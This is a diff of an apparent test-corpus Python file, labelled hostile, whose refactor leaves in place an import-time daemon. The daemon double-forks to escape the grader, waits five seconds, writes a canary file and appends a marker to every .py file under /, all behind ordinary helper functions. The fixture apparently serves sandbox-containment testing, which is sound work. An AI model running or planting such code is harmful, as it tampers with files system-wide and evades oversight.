@@ -1,14 +1,14 @@
 # corpus: hostile
 # what: at import, double-forks a setsid() daemon that sleeps 5 s, writes /tmp/dlprep-daemon-canary and appends to every .py under /
-# loses: 
+# loses:
 # expect: passed
 """A daemon that must not outlive the grading of this file; the functions are correct."""
 
+import contextlib
 import os
 import time
 
 import numpy as np
-
 
 CANARY = "/tmp/dlprep-daemon-canary"
 MARK = "\n# dlprep-daemon was here\n"
@@ -17,11 +17,8 @@ MARK = "\n# dlprep-daemon was here\n"
 def _daemon():
     """Wait until the grader has moved on, drop the canary, then append MARK to every .py file in reach."""
     time.sleep(5)
-    try:
-        with open(CANARY, "w") as f:
-            f.write(f"escaped: pid {os.getpid()}\n")
-    except OSError:
-        pass
+    with contextlib.suppress(OSError), open(CANARY, "w") as f:
+        f.write(f"escaped: pid {os.getpid()}\n")
     for root, dirs, files in os.walk("/"):
         if root == "/":
             dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
@@ -52,10 +49,8 @@ def _double_fork():
         os._exit(0)
 
 
-try:
+with contextlib.suppress(OSError):
     _double_fork()
-except OSError:
-    pass
 
 
 def sigmoid(u):
